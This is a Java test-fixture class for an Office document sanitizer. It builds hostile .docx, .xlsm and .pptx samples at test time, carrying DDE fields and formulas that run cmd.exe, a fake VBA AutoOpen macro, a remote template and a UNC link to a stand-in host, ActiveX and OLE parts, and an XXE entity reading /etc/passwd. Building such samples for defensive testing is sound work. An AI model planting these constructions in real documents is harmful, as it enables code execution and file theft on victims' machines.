package jp.mamori.sanitizer.file;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.xslf.usermodel.XMLSlideShow;
import org.apache.poi.xslf.usermodel.XSLFTextBox;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFHyperlinkRun;
import org.apache.poi.xwpf.usermodel.XWPFParagraph;

/**
 * Builds Office Open XML samples at test time: benign documents with POI, and hostile ones by editing the
 * package (a vbaProject.bin part, an OLE object, a remote template, DDE fields), so that no real macro
 * document is kept in the repository.
 */
final class OfficeSamples {
    static final String TEXT = "無害化テスト 見積書 ①㈱ — Mamori";
    private static final byte[] FAKE_VBA = "\u00d0\u00cf fake VBA project: Sub AutoOpen() Shell \"calc\" End Sub"
            .getBytes(StandardCharsets.ISO_8859_1);

    private OfficeSamples() {
    }

    static byte[] docx() throws IOException {
        try (XWPFDocument doc = new XWPFDocument()) {
            doc.createParagraph().createRun().setText(TEXT);
            doc.createParagraph().createRun().setText("第二段落 second paragraph");
            XWPFParagraph p = doc.createParagraph();
            XWPFHyperlinkRun link = p.createHyperlinkRun("https://example.jp/");
            link.setText("https://example.jp/");
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            doc.write(out);
            return out.toByteArray();
        }
    }

    static byte[] xlsx() throws IOException {
        try (XSSFWorkbook wb = new XSSFWorkbook()) {
            var sheet = wb.createSheet("集計");
            sheet.createRow(0).createCell(0).setCellValue(TEXT);
            sheet.createRow(1).createCell(0).setCellValue(42.5);
            sheet.createRow(2).createCell(0).setCellFormula("A2*2");
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            wb.write(out);
            return out.toByteArray();
        }
    }

    static byte[] pptx() throws IOException {
        try (XMLSlideShow show = new XMLSlideShow()) {
            XSLFTextBox box = show.createSlide().createTextBox();
            box.setText(TEXT);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            show.write(out);
            return out.toByteArray();
        }
    }

    /** A .docm: the docx with a VBA project part, its relationship and the macro-enabled content type. */
    static byte[] docm() throws IOException {
        Map<String, byte[]> parts = read(docx());
        parts.put("word/vbaProject.bin", FAKE_VBA);
        edit(parts, "[Content_Types].xml", s -> s
                .replace("wordprocessingml.document.main+xml", "XXX")
                .replace("application/vnd.openxmlformats-officedocument.XXX",
                        "application/vnd.ms-word.document.macroEnabled.main+xml")
                .replace("</Types>", "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>"));
        edit(parts, "word/_rels/document.xml.rels", s -> s.replace("</Relationships>",
                "<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\""
                        + " Target=\"vbaProject.bin\"/></Relationships>"));
        return write(parts);
    }

    /** An .xlsm with a VBA project and a DDE formula. */
    static byte[] xlsmWithDde() throws IOException {
        Map<String, byte[]> parts = read(xlsx());
        parts.put("xl/vbaProject.bin", FAKE_VBA);
        edit(parts, "[Content_Types].xml", s -> s
                .replace("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                        "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
                .replace("</Types>", "<Override PartName=\"/xl/vbaProject.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>"));
        edit(parts, "xl/_rels/workbook.xml.rels", s -> s.replace("</Relationships>",
                "<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\""
                        + " Target=\"vbaProject.bin\"/></Relationships>"));
        edit(parts, "xl/worksheets/sheet1.xml", s -> s.replace("<f>A2*2</f>", "<f>cmd|' /C calc'!A0</f>"));
        return write(parts);
    }

    /** A docx with an embedded OLE object, a remote template and DDE fields (simple and split complex). */
    static byte[] docxWithObjectsAndDde() throws IOException {
        Map<String, byte[]> parts = read(docx());
        parts.put("word/embeddings/oleObject1.bin", FAKE_VBA);
        edit(parts, "[Content_Types].xml", s -> s.replace("</Types>",
                "<Default Extension=\"bin\" ContentType=\"application/vnd.openxmlformats-officedocument.oleObject\"/></Types>"));
        edit(parts, "word/_rels/document.xml.rels", s -> s.replace("</Relationships>",
                "<Relationship Id=\"rIdOle\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject\""
                        + " Target=\"embeddings/oleObject1.bin\"/></Relationships>"));
        String w = "xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"";
        edit(parts, "word/document.xml", s -> s.replace("</w:body>",
                "<w:p><w:r><w:object><o:OLEObject " + w + " ProgID=\"Package\" r:id=\"rIdOle\"/></w:object></w:r></w:p>"
                        + "<w:p><w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; \">"
                        + "<w:r><w:t>simple-result</w:t></w:r></w:fldSimple></w:p>"
                        + "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>"
                        + "<w:r><w:instrText>E cmd \"/c calc\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
                        + "<w:r><w:t>complex-result</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
                        + "</w:body>"));
        parts.put("word/_rels/settings.xml.rels", ("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rIdTpl\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
                + " Target=\"http://203.0.113.9/template.dotm\" TargetMode=\"External\"/></Relationships>")
                .getBytes(StandardCharsets.UTF_8));
        return write(parts);
    }

    /**
     * A pptx whose shapes carry click and hover actions: a program, a macro, an OLE verb and another file, beside a
     * harmless jump to the next slide.
     */
    static byte[] pptxWithActions() throws IOException {
        Map<String, byte[]> parts = read(pptx());
        String slide = parts.keySet().stream().filter(n -> n.matches("ppt/slides/slide\\d+\\.xml")).findFirst()
                .orElseThrow();
        edit(parts, slide, s -> s.replaceFirst("(<p:cNvPr [^>]*?)/>",
                "$1><a:hlinkClick xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" r:id=\"\" action=\"ppaction://program\"/>"
                        + "<a:hlinkHover xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" r:id=\"\" action=\"ppaction://macro?name=AutoRun\"/></p:cNvPr>")
                .replaceFirst("(<a:rPr[^>]*?)/>", "$1><a:hlinkClick xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" r:id=\"\" action=\"ppaction://ole?verb=0\"/></a:rPr>")
                .replace("</p:spTree>", "<p:sp><p:nvSpPr><p:cNvPr id=\"99\" name=\"next\">"
                        + "<a:hlinkClick xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" r:id=\"\" action=\"ppaction://hlinkshowjump?jump=nextslide\"/>"
                        + "<a:hlinkMouseOver xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" r:id=\"\" action=\"PPACTION://HLINKFILE\"/></p:cNvPr>"
                        + "<p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/></p:sp></p:spTree>"));
        return write(parts);
    }

    /** A docx whose hyperlinks reach a UNC path and a local program without saying TargetMode="External". */
    static byte[] docxWithLocalLinks() throws IOException {
        Map<String, byte[]> parts = read(docx());
        edit(parts, "word/_rels/document.xml.rels", s -> s.replace("</Relationships>",
                "<Relationship Id=\"rIdUnc\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\""
                        + " Target=\"\\\\203.0.113.9\\share\\run.exe\"/>"
                        + "<Relationship Id=\"rIdExe\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\""
                        + " Target=\"file:///C:/Windows/System32/calc.exe\"/></Relationships>"));
        return write(parts);
    }

    /** A docx with a DDE field in its header and an OLE object linked (not embedded) to a file on a share. */
    static byte[] docxWithHeaderDdeAndOleLink() throws IOException {
        byte[] base;
        try (XWPFDocument doc = new XWPFDocument()) {
            doc.createParagraph().createRun().setText(TEXT);
            doc.createHeader(org.apache.poi.wp.usermodel.HeaderFooterType.DEFAULT).createParagraph().createRun()
                    .setText("header-text");
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            doc.write(out);
            base = out.toByteArray();
        }
        Map<String, byte[]> parts = read(base);
        String header = parts.keySet().stream().filter(n -> n.matches("word/header\\d*\\.xml")).findFirst().orElseThrow();
        edit(parts, header, s -> s.replace("</w:hdr>", "<w:p><w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; \">"
                + "<w:r><w:t>header-field-result</w:t></w:r></w:fldSimple></w:p></w:hdr>"));
        String w = "xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"";
        edit(parts, "word/document.xml", s -> s.replace("</w:body>",
                "<w:p><w:r><w:object><o:OLEObject " + w + " Type=\"Link\" ProgID=\"Excel.Sheet.12\" r:id=\"rIdLink\""
                        + " UpdateMode=\"Always\"/></w:object></w:r></w:p></w:body>"));
        edit(parts, "word/_rels/document.xml.rels", s -> s.replace("</Relationships>",
                "<Relationship Id=\"rIdLink\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject\""
                        + " Target=\"file:///\\\\203.0.113.9\\share\\book.xlsx\" TargetMode=\"External\"/></Relationships>"));
        return write(parts);
    }

    /** A docx with an ActiveX control (its XML part, its binary part and the relationships between them). */
    static byte[] docxWithActiveX() throws IOException {
        Map<String, byte[]> parts = read(docx());
        parts.put("word/activeX/activeX1.xml", ("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                + "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\""
                + " ax:classid=\"{8BD21D40-EC42-11CE-9E0D-00AA006002F3}\" ax:persistence=\"persistStorage\" r:id=\"rIdBin\"/>")
                .getBytes(StandardCharsets.UTF_8));
        parts.put("word/activeX/_rels/activeX1.xml.rels", ("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rIdBin\" Type=\"http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary\" Target=\"activeX1.bin\"/>"
                + "</Relationships>").getBytes(StandardCharsets.UTF_8));
        parts.put("word/activeX/activeX1.bin", FAKE_VBA);
        edit(parts, "[Content_Types].xml", s -> s.replace("</Types>",
                "<Override PartName=\"/word/activeX/activeX1.xml\" ContentType=\"application/vnd.ms-office.activeX+xml\"/>"
                        + "<Override PartName=\"/word/activeX/activeX1.bin\" ContentType=\"application/vnd.ms-office.activeX\"/></Types>"));
        edit(parts, "word/_rels/document.xml.rels", s -> s.replace("</Relationships>",
                "<Relationship Id=\"rIdAx\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/control\""
                        + " Target=\"activeX/activeX1.xml\"/></Relationships>"));
        return write(parts);
    }

    /** A docx whose document part declares a DTD with an external entity (XXE). */
    static byte[] docxWithXxe() throws IOException {
        Map<String, byte[]> parts = read(docx());
        edit(parts, "word/document.xml", s -> s.replaceFirst("\\?>",
                "?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"));
        return write(parts);
    }

    static Map<String, byte[]> read(byte[] zip) throws IOException {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            ZipEntry e;
            while ((e = in.getNextEntry()) != null) {
                parts.put(e.getName(), in.readAllBytes());
            }
        }
        return parts;
    }

    static byte[] write(Map<String, byte[]> parts) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Map.Entry<String, byte[]> p : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(p.getKey()));
                zip.write(p.getValue());
                zip.closeEntry();
            }
        }
        return out.toByteArray();
    }

    private static void edit(Map<String, byte[]> parts, String name, UnaryOperator<String> change) {
        String before = new String(parts.get(name), StandardCharsets.UTF_8);
        String after = change.apply(before);
        if (after.equals(before)) {
            throw new IllegalStateException("sample edit did not apply to " + name);
        }
        parts.put(name, after.getBytes(StandardCharsets.UTF_8));
    }
}
